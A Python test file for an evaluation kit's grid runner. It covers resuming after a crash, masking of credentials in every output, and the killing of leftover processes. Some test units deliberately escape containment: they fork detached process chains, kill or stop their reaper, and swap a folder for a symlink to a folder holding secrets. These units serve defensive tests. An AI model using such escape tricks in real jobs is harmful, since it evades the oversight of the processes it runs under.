"""Batch grids: spec checks, a local process pool, a real local Ray instance, and a notebook grid."""
from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest

from evalkit import grid
from evalkit.cli.commands import main

# A unit: logs that it ran, fails for x == 3, else prints its result as JSON on the last line.
UNIT = ("import json, sys; x = int(sys.argv[1]); open(sys.argv[2], 'a').write(f'{x}\\n'); "
        "assert x != 3, 'unit three fails on purpose'; "
        "print('working...'); print(json.dumps({'square': x * x, 'nested': {'half': x / 2}}))")


def command_spec(tmp_path: Path, **overrides) -> grid.GridSpec:
    raw = {"name": "t", "kind": "command", "command": [sys.executable, "-c", UNIT, "{x}", str(tmp_path / "ran.log")],
           "grid": {"x": [1, 2, 3, 4]}, "out": str(tmp_path / "out"), "retries": 1, "workers": 2}
    raw.update(overrides)
    return grid.parse_grid(raw)


def executions(tmp_path: Path) -> list[int]:
    return sorted(int(line) for line in (tmp_path / "ran.log").read_text().split())


def test_spec_errors_name_the_field(tmp_path):
    with pytest.raises(grid.GridSpecError, match="unknown field.*gird"):
        grid.parse_grid({"gird": {}})
    with pytest.raises(grid.GridSpecError, match="field 'notebook'.*exactly one notebook"):
        grid.parse_grid({"kind": "notebook", "notebook": "99_missing", "grid": {"seed": [1]}})
    with pytest.raises(grid.GridSpecError, match=r"field 'grid.seed': expected a list"):
        grid.parse_grid({"kind": "command", "command": ["echo"], "grid": {"seed": 3}})
    path = tmp_path / "g.yml"
    path.write_text("kind: command\ncommand: [echo]\ngrid: {a: [1]}\nworkers: 0\n")
    with pytest.raises(grid.GridSpecError, match=rf"{path}, field 'workers'"):
        grid.load_grid(path)


def test_units_are_the_product_of_the_grid_with_stable_ids(tmp_path):
    spec = command_spec(tmp_path, grid={"x": [1, 2], "y": ["a", "b", "c"]}, fixed={"z": 0})
    units = grid.expand(spec)
    assert len(units) == 6 and len({u.unit_id for u in units}) == 6
    assert units[0].params == {"z": 0, "x": 1, "y": "a"}
    assert [u.unit_id for u in units] == [u.unit_id for u in grid.expand(command_spec(tmp_path, grid=spec.grid,
                                                                                       fixed={"z": 0}))]


def _check_first_run(outcome: grid.GridOutcome, tmp_path: Path) -> None:
    assert len(outcome.ran) == 3 and not outcome.skipped
    (error,) = outcome.failed.values()
    assert error.startswith("RuntimeError: exit status 1") and "unit three fails on purpose" in error
    table = outcome.table.set_index("param/x")
    assert table.loc[4, "square"] == 16 and table.loc[2, "nested/half"] == 1.0
    assert table.loc[3, "status"] == "failed" and table.loc[3, "attempts"] == 2  # retried once
    assert executions(tmp_path) == [1, 2, 3, 3, 4]
    assert outcome.csv.is_file()


def test_local_pool_runs_retries_reports_and_skips_finished_units(tmp_path):
    spec = command_spec(tmp_path)
    _check_first_run(grid.run_grid(spec, engine="local"), tmp_path)
    again = grid.run_grid(spec, engine="local")
    assert not again.ran and len(again.skipped) == 3 and len(again.failed) == 1
    assert executions(tmp_path) == [1, 2, 3, 3, 3, 3, 4]  # only the unfinished unit ran again


def test_a_real_local_ray_instance_runs_the_grid(tmp_path):
    import ray

    ray.init(num_cpus=2, include_dashboard=False, log_to_driver=False)
    try:
        spec = command_spec(tmp_path)
        _check_first_run(grid.run_grid(spec, engine="ray"), tmp_path)
        again = grid.run_grid(spec, engine="ray")
        assert not again.ran and len(again.skipped) == 3
        assert executions(tmp_path).count(1) == 1 and executions(tmp_path).count(4) == 1
    finally:
        ray.shutdown()


@pytest.mark.slow
def test_cli_notebook_grid(tmp_path, capsys):
    path = tmp_path / "grid.yml"
    path.write_text(json.dumps({"name": "nb", "kind": "notebook", "notebook": "00_models", "base_params": "smoke",
                                "grid": {"cache_path": [str(tmp_path / "a.sqlite"), str(tmp_path / "b.sqlite")]},
                                "out": "out", "workers": 1}))
    assert main(["grid", "--spec", str(path)]) == 0
    printed = capsys.readouterr().out
    assert "2 units run, 0 skipped" in printed
    records = [json.loads(p.read_text()) for p in (tmp_path / "out" / "units").glob("*/unit.json")]
    assert len(records) == 2 and all(r["status"] == "ok" and r["result"] for r in records)
    assert all((tmp_path / f"{name}.sqlite").is_file() for name in "ab")  # each unit got its own parameter
    assert main(["grid", "--spec", str(path)]) == 0
    assert "0 units run, 2 skipped" in capsys.readouterr().out


# Unit 3 sleeps as long as the file beside the log says (long in the killed run, short in the rerun).
SLOW_UNIT = ("import sys, time, pathlib; x = int(sys.argv[1]); log = pathlib.Path(sys.argv[2]); "
             "open(log, 'a').write(f'{x}\\n'); "
             "time.sleep(float((log.parent / 'sleep').read_text()) if x == 3 else 0); print('{\"x\": %d}' % x)")


def _driver_running_unit_three(tmp_path: Path, values: list[int], workers: int, sleep_s: int):
    """A grid driver started through the CLI in its own session, returned once unit 3 (which sleeps
    ``sleep_s``) has started; and the grid file's path."""
    import subprocess
    import time

    import yaml

    (tmp_path / "sleep").write_text(str(sleep_s))
    spec_path = tmp_path / "grid.yml"
    spec_path.write_text(yaml.safe_dump({
        "name": "driver", "kind": "command", "command": [sys.executable, "-c", SLOW_UNIT, "{x}",
                                                          str(tmp_path / "ran.log")],
        "grid": {"x": values}, "out": "out", "retries": 0, "workers": workers}))
    driver = subprocess.Popen([sys.executable, "-m", "evalkit.cli.commands", "grid", "--spec", str(spec_path)],
                              start_new_session=True)
    deadline = time.time() + 120
    while time.time() < deadline and not ((tmp_path / "ran.log").is_file() and 3 in executions(tmp_path)):
        time.sleep(0.1)
    assert 3 in executions(tmp_path), "the third unit never started"
    return driver, spec_path


def test_a_grid_killed_mid_run_repeats_no_finished_unit(tmp_path):
    """Kill the driver while the third unit runs: the rerun runs only that unit."""
    import os
    import signal
    import time

    driver, spec_path = _driver_running_unit_three(tmp_path, [1, 2, 3], workers=1, sleep_s=60)
    assert executions(tmp_path) == [1, 2, 3]
    os.killpg(driver.pid, signal.SIGKILL)  # the driver and the unit it runs, as a kill -9 of the job would
    driver.wait()
    records = sorted((tmp_path / "out" / "units").glob("*/unit.json"))
    assert len(records) == 2 and all(json.loads(r.read_text())["status"] == "ok" for r in records)

    (tmp_path / "sleep").write_text("4")
    spec = grid.load_grid(spec_path)
    # The rerun runs in the background so that a second run can try the same folder meanwhile.
    outcome_holder = {}

    import threading

    thread = threading.Thread(target=lambda: outcome_holder.update(o=grid.run_grid(spec)), daemon=True)
    thread.start()
    deadline = time.time() + 60
    while time.time() < deadline and executions(tmp_path) != [1, 2, 3, 3]:
        time.sleep(0.2)
    assert executions(tmp_path) == [1, 2, 3, 3]  # units 1 and 2 were not run again
    # A second run on the same folder while this one holds it is refused, naming the folder.
    with pytest.raises(grid.GridLocked, match=rf"{tmp_path / 'out'} is in use by another grid run"):
        grid.run_grid(spec)
    thread.join(timeout=120)
    outcome = outcome_holder["o"]
    assert len(outcome.skipped) == 2 and len(outcome.ran) == 1 and not outcome.failed


def test_worker_processes_do_not_keep_a_dead_drivers_lock(tmp_path):
    """SIGTERM to the driver alone leaves its pool workers running; they must not hold the folder's lock."""
    import os
    import signal
    import subprocess
    import time

    driver, spec_path = _driver_running_unit_three(tmp_path, [3, 4], workers=2, sleep_s=3)
    os.kill(driver.pid, signal.SIGTERM)
    driver.wait()
    outcome = grid.run_grid(grid.load_grid(spec_path))  # not refused as "in use"
    assert not outcome.failed and len(outcome.ran) + len(outcome.skipped) == 2
    # The dead driver's pool workers went with it (none is left idle, holding anything).
    time.sleep(1)
    left = subprocess.run(["pgrep", "-f", str(spec_path)], capture_output=True, text=True).stdout.split()
    assert not left, f"workers of the killed driver still alive: {left}"


# --------------------------------------------------------------------------- credentials

PASSWORD, KEY, SIG, TOKEN = "hunter2pw", "KEYSECRET1", "SIGSECRET22", "tok-abcdef123"
SECRET_URL = f"http://user:{PASSWORD}@127.0.0.1:9/v1?key={KEY}&sig={SIG}"
# A unit that gets a URL and a key, notes what it got outside the grid's folder, echoes both to its output
# and in its result, and fails for x == 3 with both in its error.
ECHO_UNIT = ("import json, sys; url, token, x, seen = sys.argv[1:5]; "
             "open(seen, 'a').write(url + ' ' + token + '\\n'); "
             "print('calling', url, 'with', token); print(url, token, file=sys.stderr); "
             "sys.exit('cannot reach %s as %s' % (url, token)) if x == '3' else None; "
             "print(json.dumps(dict(url=url, token=token, square=int(x) ** 2)))")


def _leaks(text: str) -> list[str]:
    return [secret for secret in (PASSWORD, KEY, SIG, TOKEN) if secret in text]


def test_credentials_reach_the_command_and_no_output(tmp_path, capsys):
    import yaml

    path = tmp_path / "grid.yml"
    raw = {"name": "secret", "kind": "command", "out": "out", "retries": 0, "workers": 2,
           "command": [sys.executable, "-c", ECHO_UNIT, "{base_url}", "{api_key}", "{x}", str(tmp_path / "seen.log")],
           "grid": {"x": [1, 2, 3]}, "fixed": {"base_url": SECRET_URL, "api_key": TOKEN}}
    path.write_text(yaml.safe_dump(raw))
    assert main(["grid", "--spec", str(path)]) == 1  # unit 3 fails
    printed = capsys.readouterr()
    assert "2 units run, 0 skipped" in printed.out and not _leaks(printed.out + printed.err)
    assert (tmp_path / "seen.log").read_text().count(f"{SECRET_URL} {TOKEN}") == 3  # the real values, for the worker
    written = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert len(written) >= 3 * 3 + 1
    for file in [tmp_path / "out", *(tmp_path / "out").rglob("*")]:
        assert not _leaks(str(file.relative_to(tmp_path))), file
        if file.is_file():
            assert not _leaks(file.read_text(errors="replace")), (file, file.read_text()[:400])
    table = grid.results_table(grid.load_grid(path)).set_index("param/x")
    assert table.loc[1, "param/base_url"] == "http://***@127.0.0.1:9/v1?key=***&sig=***"
    assert table.loc[2, "square"] == 4 and table.loc[3, "status"] == "failed"
    assert "cannot reach http://***@127.0.0.1:9" in table.loc[3, "error"]

    # Resume recognises the finished units from their masked records ...
    assert main(["grid", "--spec", str(path)]) == 1
    assert "0 units run, 2 skipped" in capsys.readouterr().out
    # ... but a unit with another credential is another unit (its masked form alone would look the same).
    other = SECRET_URL.replace(PASSWORD, "other-pw")
    path.write_text(yaml.safe_dump({**raw, "fixed": {**raw["fixed"], "base_url": other}}))
    assert main(["grid", "--spec", str(path)]) == 1
    assert "2 units run, 0 skipped" in capsys.readouterr().out

    # A grid file's errors mask them too.
    path.write_text(yaml.safe_dump({**raw, "fixed": {}, "grid": {"base_url": [SECRET_URL, SECRET_URL]}}))
    with pytest.raises(grid.GridSpecError, match="listed more than once") as refused:
        grid.load_grid(path)
    assert not _leaks(str(refused.value))


LITERAL_PW, LITERAL_KEY, FILLED_PW = "Lit3ral-pw-x", "k3y-literal-0099", "filled-pw-4242"
# A unit that prints its whole command line to both outputs and in its result.
ARGV_UNIT = ("import json, sys; print('argv', sys.argv[1:]); print(' '.join(sys.argv[1:]), file=sys.stderr); "
             "print(json.dumps(dict(args=' '.join(sys.argv[1:]))))")


def test_a_commands_literal_password_is_masked_in_records_and_outputs(tmp_path):
    """``"--password", "..."`` written into the command list (not a parameter) reached unit.json and the unit's
    stdout/stderr files; so did ``--api-key=...`` and a password option filled from a parameter not named as a
    credential."""
    spec = command_spec(tmp_path, command=[sys.executable, "-c", ARGV_UNIT, "--password", LITERAL_PW,
                                           f"--api-key={LITERAL_KEY}", "--db-password", "{pw}", "--seed", "{x}"],
                        grid={"x": [1, 2]}, fixed={"pw": FILLED_PW}, retries=0)
    outcome = grid.run_grid(spec)
    assert not outcome.failed and len(outcome.ran) == 2
    files = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert {p.name for p in files} >= {"unit.json", "stdout.txt", "stderr.txt"}
    for file in files:
        text = file.read_text(errors="replace")
        assert not [s for s in (LITERAL_PW, LITERAL_KEY, FILLED_PW) if s in text or s in str(file)], (file, text[:300])
    record = json.loads(next(p for p in files if p.name == "unit.json").read_text())
    command = json.loads(record["unit"]["target"])
    assert command[3:8] == ["--password", "***", "--api-key=***", "--db-password", "{pw}"]
    assert "--seed" in (tmp_path / "out" / "units" / outcome.ran[0] / "stdout.txt").read_text()
    assert grid._finished(tmp_path / "out", expand_one(spec))  # the masked record still marks its unit done


def expand_one(spec: grid.GridSpec) -> grid.GridUnit:
    return grid.expand(spec)[0]


# Units 1 and 2 finish at once; a later unit starts a grandchild, notes both pids, and sleeps as long as the
# file `sleep` says.
ORPHAN_UNIT = ("import json, subprocess, sys, time, pathlib; "
               "x = int(sys.argv[1]); folder = pathlib.Path(sys.argv[2]); "
               "open(folder / 'ran.log', 'a').write('%d\\n' % x); "
               "child = subprocess.Popen(['sleep', '300']) if x > 2 else None; "
               "open(folder / 'pids', 'a').write('%d %d\\n' % (x, child.pid) if child else ''); "
               "time.sleep(float((folder / 'sleep').read_text()) if x > 2 else 0); print(json.dumps(dict(x=x)))")


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError, IndexError):
        return False
    return state != "Z"  # a zombie has ended; only its parent's reaping is pending


@pytest.mark.parametrize("signum, workers", [("SIGKILL", 2), ("SIGTERM", 1)])
def test_a_killed_driver_leaves_no_command_running(tmp_path, signum, workers):
    """kill -9 (or SIGTERM) of the driver alone: every command and what it started dies with it, and the
    resumed grid runs only the units that had not finished."""
    import os
    import signal
    import subprocess
    import time

    import yaml

    slow = [3, 4] if workers == 2 else [3]
    (tmp_path / "sleep").write_text("300")
    spec_path = tmp_path / "grid.yml"
    spec_path.write_text(yaml.safe_dump({
        "name": "orphans", "kind": "command", "command": [sys.executable, "-c", ORPHAN_UNIT, "{x}", str(tmp_path)],
        "grid": {"x": [1, 2, *slow]}, "out": "out", "retries": 0, "workers": workers}))
    driver = subprocess.Popen([sys.executable, "-m", "evalkit.cli.commands", "grid", "--spec", str(spec_path)],
                              start_new_session=True)
    watched: list[int] = []
    try:
        pids_file = tmp_path / "pids"
        deadline = time.time() + 120
        noted = lambda: pids_file.read_text().split() if pids_file.is_file() else []  # noqa: E731
        while time.time() < deadline and len(noted()) < 2 * len(slow):
            assert driver.poll() is None, "the driver ended early"
            time.sleep(0.1)
        started = {int(x): int(pid) for x, pid in (line.split() for line in pids_file.read_text().splitlines())}
        assert sorted(started) == slow, "the slow units never started"
        # The grid's processes: pool workers, reapers and commands (all name this test's folder), grandchildren.
        found = subprocess.run(["pgrep", "-f", str(tmp_path)], capture_output=True, text=True).stdout.split()
        watched = [*started.values(), *(int(pid) for pid in found if int(pid) != driver.pid)]
        assert len(watched) > len(slow)  # a command (and more) per unit, besides its grandchild
        os.kill(driver.pid, getattr(signal, signum))  # the driver alone, not its process group
        driver.wait()
        deadline = time.time() + 15
        while time.time() < deadline and any(map(_alive, watched)):
            time.sleep(0.1)
        assert not [pid for pid in watched if _alive(pid)], "processes of the killed grid still run"
    finally:  # whatever failed above, leave nothing running
        if driver.poll() is None:
            os.killpg(driver.pid, signal.SIGKILL)
            driver.wait()
        for pid in filter(_alive, watched):
            os.kill(pid, signal.SIGKILL)

    (tmp_path / "sleep").write_text("0")
    outcome = grid.run_grid(grid.load_grid(spec_path))
    assert len(outcome.skipped) == 2 and sorted(outcome.ran) == sorted(
        u.unit_id for u in grid.expand(grid.load_grid(spec_path)) if u.params["x"] > 2) and not outcome.failed
    assert executions(tmp_path) == [1, 2, *sorted(slow * 2)]  # the finished units ran once


def test_commands_run_in_the_grid_files_folder_and_fill_one_grammar(tmp_path):
    folder = tmp_path / "experiment"
    folder.mkdir()
    for seed in (1, 2):
        (folder / f"scored_{seed}.jsonl").write_text("{}\n" * seed)
    (folder / "count.py").write_text(
        "import json, sys\n"
        "lines = len(open(sys.argv[1]).read().splitlines())\n"
        "print(json.dumps({'lines': lines, 'literal': sys.argv[2], 'data': {'as': 'text'}}))\n"
        "print('done: a JSON object need not be the last line')\n")
    path = folder / "grid.yml"
    path.write_text(json.dumps({"kind": "command", "command": [sys.executable, "count.py", "scored_{seed}.jsonl",
                                                              "{{seed}}-{seed}"],
                                "grid": {"seed": [1, 2]}, "out": "out", "workers": 1}))
    outcome = grid.run_grid(grid.load_grid(path))
    assert not outcome.failed, outcome.failed
    table = outcome.table.set_index("param/seed")
    assert table.loc[2, "lines"] == 2 and table.loc[1, "literal"] == "{seed}-1" and table.loc[1, "data/as"] == "text"
    assert (folder / "out" / "results.csv").is_file()


def test_a_command_without_a_json_result_fails_with_that_reason(tmp_path):
    spec = command_spec(tmp_path, command=[sys.executable, "-c", "print('all good'); print('[1, 2]')"],
                        grid={"x": [1]}, retries=0)
    outcome = grid.run_grid(spec)
    (error,) = outcome.failed.values()
    assert not outcome.ran and "no line of its standard output is a JSON object" in error


def test_malformed_placeholders_are_refused_naming_file_and_field(tmp_path):
    path = tmp_path / "g.yml"
    path.write_text("kind: command\ncommand: [echo, '--judge={judge-name}']\ngrid: {judge-name: [a]}\n")
    with pytest.raises(grid.GridSpecError, match=rf"{path}, field 'command\[1\]': \{{judge-name\}} is not a "
                                                 r"placeholder.*\{\{judge-name\}\} is the literal text"):
        grid.load_grid(path)
    (tmp_path / "run.sh").write_text("echo '{}'\n")
    path.write_text("kind: command\ncommand: [run.sh]\ngrid: {a: [1]}\n")
    with pytest.raises(grid.GridSpecError, match=r"field 'command\[0\]': 'run.sh' is not on PATH; write ./run.sh"):
        grid.load_grid(path)


def test_workers_below_one_are_refused(tmp_path, capsys):
    path = tmp_path / "g.yml"
    path.write_text(json.dumps({"kind": "command", "command": [sys.executable, "-c", "print('{}')"],
                                "grid": {"x": [1]}, "out": "out"}))
    for workers in ("0", "-2"):
        assert main(["grid", "--spec", str(path), "--workers", workers]) == 2
        assert f"workers (--workers) must be a whole number of at least 1, not {workers}" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
    with pytest.raises(ValueError, match="at least 1"):
        grid.run_grid(grid.load_grid(path), workers=0)


def test_the_documented_command_grid_runs_beside_its_files(tmp_path):
    """The command grid of jobs/grid_example.yml, with two small scored files beside it."""
    import yaml

    text = (Path(__file__).parents[2] / "jobs" / "grid_example.yml").read_text()
    example = text.split("# A command grid instead", 1)[1]
    raw = yaml.safe_load("\n".join(line[4:] for line in example.splitlines() if line.startswith("#   ")))
    raw["command"][0] = sys.executable  # `python` as the environment that runs the tests
    for seed in raw["grid"]["seed"]:
        rows = [{"context": ["hi"], "response": f"r{i}", "score": i, "paireval": i * seed % 5, "bleu2": i}
                for i in range(6)]
        (tmp_path / f"scored_{seed}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    path = tmp_path / "grid.yml"
    path.write_text(yaml.safe_dump({**raw, "out": "out"}))
    outcome = grid.run_grid(grid.load_grid(path))
    assert not outcome.failed and len(outcome.ran) == 4
    table = outcome.table.set_index(["param/seed", "param/metric"])
    assert table.loc[(1, "bleu2"), "pearson"] == pytest.approx(1.0) and table.loc[(2, "paireval"), "n"] == 6


def test_a_notebook_units_folder_and_record_are_masked(tmp_path, monkeypatch):
    def notebook(unit, folder):  # an executed notebook shows its parameters cell
        (folder / "00_models.ipynb").write_text(json.dumps({"source": f"base_url = {unit.params['base_url']!r}"}))
        return {"endpoint": unit.params["base_url"], "items": 3}

    monkeypatch.setattr("evalkit.grid.unit._run_notebook", notebook)
    unit = grid.GridUnit("notebook", "00_models", {"base_url": SECRET_URL, "hf_token": TOKEN, "seed": 1})
    record = grid.run_unit(unit, str(tmp_path / "out"))
    assert record["status"] == "ok" and record["result"]["items"] == 3
    assert record["unit"]["params"] == {"base_url": "http://***@127.0.0.1:9/v1?key=***&sig=***", "hf_token": "***",
                                        "seed": 1}
    for file in (tmp_path / "out").rglob("*"):
        assert not _leaks(str(file)) and (file.is_dir() or not _leaks(file.read_text())), file
    assert grid._finished(tmp_path / "out", unit)


def test_a_child_that_detaches_into_its_own_session_is_killed_with_its_unit(tmp_path):
    """``setsid`` takes a child out of the unit's process group; the reaper is a child subreaper, so the
    orphan is reparented to it and killed when the unit ends."""
    import time

    detach = ("import json, subprocess, sys; child = subprocess.Popen(['setsid', 'sleep', '971']); "
              "import time; time.sleep(0.3); open(sys.argv[1], 'w').write(str(child.pid)); "
              "print(json.dumps(dict(done=1)))")
    spec = command_spec(tmp_path, command=[sys.executable, "-c", detach, str(tmp_path / "pid_{x}")],
                        grid={"x": [0]}, retries=0, timeout_s=20)
    outcome = grid.run_grid(spec)
    assert outcome.table["status"].tolist() == ["ok"]
    time.sleep(0.5)
    pid = int((tmp_path / "pid_0").read_text())
    assert not _alive(pid), f"the detached sleep {pid} outlived its unit"


def test_the_driver_scrubs_a_units_folder_its_worker_left_unscrubbed(tmp_path, monkeypatch):
    """A worker killed mid-unit never scrubs the unit's folder: the driver scrubs every folder of the run once all
    workers have ended, and files the unit's record again as it wrote it."""
    def killed_worker(unit, out_dir):  # what a command wrote before its worker died
        folder = Path(out_dir) / "units" / unit.unit_id
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "log.txt").write_text(f"connecting to {unit.params['url']} with {TOKEN}\n")
        (folder / "unit.json").write_text(f"tampered {TOKEN}")
        return grid.records._failed_record(unit, RuntimeError("worker died"))  # as the pool reports a dead worker

    monkeypatch.setattr("evalkit.grid.driver.run_unit", killed_worker)
    monkeypatch.setenv("PROBE_API_TOKEN", TOKEN)
    spec = command_spec(tmp_path, grid={"url": [SECRET_URL], "x": [1]}, retries=0, workers=1)
    outcome = grid.run_grid(spec)
    assert outcome.table["status"].tolist() == ["failed"] and "worker died" in outcome.table["error"][0]
    files = [file for file in (tmp_path / "out").rglob("*") if file.is_file()]
    assert any(file.name == "log.txt" for file in files)
    assert not [file for file in files if _leaks(file.read_text())]
    (record,) = [json.loads(file.read_text()) for file in files if file.name == "unit.json"]
    assert record["status"] == "failed" and record["unit"]["params"]["url"].startswith("http://***@")


def test_a_deep_chain_of_detached_processes_dies_with_its_unit(tmp_path):
    """Each of 80 nested processes detaches (setsid) and forks the next, so killing one generation only hands
    its child to the reaper; the deepest writes a file once told to, after the grid has ended. The whole tree
    dies with the unit, whether the command ends or times out, so no late file appears."""
    import time

    chain = ("import json, os, sys, time\n"
             "folder, depth = sys.argv[1], 80\n"
             "if os.fork() == 0:\n"
             "    null = os.open(os.devnull, os.O_RDWR); [os.dup2(null, fd) for fd in (0, 1, 2)]\n"
             "    for level in range(depth):\n"
             "        os.setsid()\n"
             "        with open(os.path.join(folder, 'pids'), 'a') as f: f.write(f'{os.getpid()}\\n')\n"
             "        if level < depth - 1 and os.fork() != 0:\n"
             "            time.sleep(60); os._exit(0)\n"
             "    while not os.path.exists(os.path.join(folder, 'go')): time.sleep(0.05)\n"
             "    open(os.path.join(folder, 'late.txt'), 'w').write('late'); os._exit(0)\n"
             "while not os.path.exists(os.path.join(folder, 'pids')) or "
             "len(open(os.path.join(folder, 'pids')).read().split()) < depth: time.sleep(0.05)\n"
             "time.sleep(float(sys.argv[2]))\n"
             "print(json.dumps(dict(done=1)))\n")
    folders = {wait: tmp_path / f"chain_{wait}" for wait in (0, 30)}
    for folder in folders.values():
        folder.mkdir()
    spec = command_spec(tmp_path, command=[sys.executable, "-c", chain, str(tmp_path / "chain_{x}"), "{x}"],
                        grid={"x": [0, 30]}, retries=0, timeout_s=8)
    outcome = grid.run_grid(spec)
    table = outcome.table.set_index("param/x")
    assert table.loc[0, "status"] == "ok" and table.loc[30, "status"] == "failed"
    for folder in folders.values():
        (folder / "go").touch()
    time.sleep(1)
    for folder in folders.values():
        pids = [int(pid) for pid in (folder / "pids").read_text().split()]
        assert len(pids) == 80 and not [pid for pid in pids if _alive(pid)], folder
        assert not (folder / "late.txt").exists(), folder


def test_a_process_that_outlives_a_killed_reaper_is_found_by_its_marker_and_killed(tmp_path):
    """A command that detaches a child (setsid, output still on the unit's pipes) and then kills its own reaper
    leaves that child to the system, out of the reaper's reach: the worker finds it by the variable every
    process of the unit inherits, kills it, and reads the output to its end instead of waiting on the pipes."""
    import time

    escape = ("import json, os, signal, sys, time\n"
              "folder = sys.argv[1]\n"
              "if os.fork() == 0:\n"
              "    os.setsid()\n"
              "    open(os.path.join(folder, 'pid'), 'w').write(str(os.getpid()))\n"
              "    while not os.path.exists(os.path.join(folder, 'go')): time.sleep(0.05)\n"
              "    open(os.path.join(folder, 'late.txt'), 'w').write('late'); os._exit(0)\n"
              "while not os.path.exists(os.path.join(folder, 'pid')): time.sleep(0.05)\n"
              "print('started', flush=True)\n"
              "os.kill(os.getppid(), signal.SIGKILL)\n"
              "time.sleep(30)\n")
    folder = tmp_path / "escape"
    folder.mkdir()
    spec = command_spec(tmp_path, command=[sys.executable, "-c", escape, str(folder), "{x}"], grid={"x": [0]},
                        retries=0, timeout_s=60)
    outcome = grid.run_grid(spec)
    (error,) = outcome.table["error"]  # the reaper's end, not the time limit: nothing waited on the held pipes
    assert "killed by signal SIGKILL" in error and "started" in error and "timeout_s" not in error
    (folder / "go").touch()
    time.sleep(1)
    assert not _alive(int((folder / "pid").read_text())) and not (folder / "late.txt").exists()


def test_what_a_notebook_units_kernel_leaves_running_is_killed_with_the_unit(tmp_path, monkeypatch):
    """A notebook's kernel that starts a detached process (setsid, its own session) does not outlive its unit."""
    import subprocess
    import time

    started = {}

    def notebook(unit, folder):  # a kernel starts what the notebook runs, with the kernel's environment
        child = subprocess.Popen(["setsid", sys.executable, "-c", "import time; time.sleep(60)"],
                                 env=dict(os.environ))
        started["pid"] = child.pid
        return {"items": 1}

    monkeypatch.setattr("evalkit.grid.unit._run_notebook", notebook)
    record = grid.run_unit(grid.GridUnit("notebook", "00_models", {"seed": 1}), str(tmp_path / "out"))
    assert record["status"] == "ok"
    time.sleep(0.5)
    assert not _alive(started["pid"]) and "EVALKIT_GRID_UNIT" not in os.environ


def test_a_process_caught_in_the_middle_of_exec_is_looked_at_again(monkeypatch):
    """A process in the middle of ``exec`` reads an empty environment for a moment: the unit's end scans again
    rather than taking the empty read for "no process of the unit is left"."""
    import subprocess
    from evalkit.grid import unit as grid_unit

    child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    scans = iter([([], [child.pid]), ([], [child.pid]), ([child.pid], [])])

    def scan(needle):  # the second look finds the process's environment, marker and all
        return next(scans, ([], []))

    monkeypatch.setattr(grid_unit, "_processes_holding", scan)
    try:
        assert grid_unit.kill_marked("m", wait_s=5) == [child.pid]
        assert child.wait(timeout=5) == -9
    finally:
        child.kill()


def test_the_scan_for_a_units_processes_tells_an_empty_environment_from_a_marked_one():
    """A process started with no environment is reported as unread (to be looked at again), one started with the
    unit's marker as found, and neither the scanning process nor a kernel thread is either."""
    import subprocess
    import time
    from evalkit.grid import unit as grid_unit

    marked = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"],
                              env={"EVALKIT_GRID_UNIT": "scan-test"})
    bare = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], env={})
    try:
        time.sleep(0.5)
        found, unread = grid_unit._processes_holding(b"EVALKIT_GRID_UNIT=scan-test")
        assert found == [marked.pid] and bare.pid in unread and os.getpid() not in unread + found
        assert 2 not in unread  # kthreadd, where this system shows it
        assert grid_unit.kill_marked("scan-test", settle_s=0.3) == [marked.pid]
        assert bare.poll() is None  # the bare process is not the unit's
    finally:
        marked.kill()
        bare.kill()


def test_a_command_that_stops_its_reaper_still_ends_at_its_time_limit(tmp_path):
    """A stopped process takes no SIGTERM: a reaper its command stopped is killed after a grace period, and the
    unit is reported as timed out."""
    stop = "import os, signal, time; os.kill(os.getppid(), signal.SIGSTOP); time.sleep(60)"
    spec = command_spec(tmp_path, command=[sys.executable, "-c", stop, "{x}"], grid={"x": [0]}, retries=0,
                        timeout_s=2)
    outcome = grid.run_grid(spec)
    (error,) = outcome.table["error"]
    assert "still running after timeout_s = 2 s" in error


def test_a_command_that_swaps_its_folder_for_a_link_writes_nothing_through_it(tmp_path):
    """The unit's folder replaced by a link to another folder: nothing there is changed or written, the link is
    removed, and the unit fails saying why."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "teacher.env").write_text(f"DATABASE_URL={SECRET_URL}\n")
    swap = ("import glob, json, os, shutil, sys; folder = glob.glob(sys.argv[2] + '/*')[0]; "
            "shutil.rmtree(folder); os.symlink(sys.argv[1], folder); print(json.dumps(dict(done=1)))")
    spec = command_spec(tmp_path, command=[sys.executable, "-c", swap, str(victim), str(tmp_path / "out" / "units"),
                                           "{x}"], grid={"x": [0]}, retries=0)
    outcome = grid.run_grid(spec)
    (error,) = outcome.table["error"]
    assert "replaced its folder" in error and "link" in error
    assert sorted(p.name for p in victim.iterdir()) == ["teacher.env"]
    assert (victim / "teacher.env").read_text() == f"DATABASE_URL={SECRET_URL}\n"
    (folder,) = (tmp_path / "out" / "units").iterdir()
    assert not folder.is_symlink() and (folder / "unit.json").is_file()


def test_a_credential_printed_or_named_in_one_file_is_masked_in_all_the_units_files(tmp_path, monkeypatch):
    """A key printed in a named field on standard output and written bare into a file; one named in a config file
    and printed bare, and returned in the result: each is masked in every file, the record and the results."""
    printed, named = "Sx01PrintedKey9aQ", "Sx02NamedInIni7bW"
    write = ("import json, glob, os, sys; folder = glob.glob(sys.argv[3] + '/*')[0]; "
             "printed, named = os.environ['PAYLOAD_A'], os.environ['PAYLOAD_B']; "
             "open(os.path.join(folder, 'notes.txt'), 'w').write('kept ' + printed); "
             "open(os.path.join(folder, 'config.ini'), 'w').write('[x]\\naws_secret_access_key = ' + named + '\\n'); "
             "print(json.dumps({'SecretAccessKey': printed})); print('bare', named); "
             "print(json.dumps(dict(note='used ' + named, done=1)))")
    monkeypatch.setenv("PAYLOAD_A", printed)  # names that say nothing of a credential: the kit learns them
    monkeypatch.setenv("PAYLOAD_B", named)
    spec = command_spec(tmp_path, command=[sys.executable, "-c", write, "-", "-", str(tmp_path / "out" / "units"),
                                           "{x}"], grid={"x": [0]}, retries=0)
    outcome = grid.run_grid(spec)
    assert outcome.table["status"].tolist() == ["ok"], outcome.table["error"].tolist()
